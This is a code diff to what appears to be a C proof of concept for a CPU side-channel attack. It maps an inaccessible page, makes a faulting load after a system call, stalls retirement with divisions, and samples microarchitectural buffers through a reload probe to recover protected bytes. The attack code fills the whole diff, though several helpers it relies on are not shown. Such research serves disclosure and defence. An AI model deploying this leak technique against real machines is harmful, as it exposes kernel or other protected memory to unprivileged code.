@@ -13,11 +13,11 @@ static const uint8_t *denied;
  * A system call, then loads that fault. Divisions keep the first from retiring: unlike loads from
  * memory they take no buffer.
  */
-static void call_and_sample(long number, long first, const void *second, long third, int index)
+static void call_and_sample(long number, long first, const void *second, long third)
 {
-	register const uint8_t *address_register __asm__("r9") = denied + place_of_load(index);
+	register const uint8_t *address_register __asm__("r9") = denied + place;
 	register const uint8_t *probe_register __asm__("r8") = probe;
-	register uint64_t known_register __asm__("r10") = known_before(index);
+	register uint64_t known_register __asm__("r10") = known;
 
 	__asm__ volatile(
 		RESUME_AT_9
@@ -29,12 +29,20 @@ static void call_and_sample(long number, long first, const void *second, long th
 		"div %%rcx\n\t"
 		"div %%rcx\n\t"
 		"div %%rcx\n\t"
-		SAMPLE_BUFFERS
+		TWELVE_TIMES(SAMPLE_BUFFER)
 		RESUMED
 		: "+d"(third)
 		: [number] "r"(number), "D"(first), "S"(second), [address] "r"(address_register),
 		  [probe] "r"(probe_register), [known] "r"(known_register), [elsewhere] "r"(elsewhere)
 		: "rax", "rcx", "r11", "memory", "cc");
+}
+
+static int sample(int index)
+{
+	prepare_use(index);
+	aim(index);
+	use_secret_by(call_and_sample, index);
+	return reload_probe(probe);
 }
 
 int main(int argc, char **argv)
@@ -51,6 +59,6 @@ int main(int argc, char **argv)
 	denied = mmap(NULL, PAGE_BYTES + LINE_BYTES, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
 	if (denied == MAP_FAILED)
 		err(1, "mmap");
-	recover_in_order();
+	recover_in_order(sample);
 	return 0;
 }
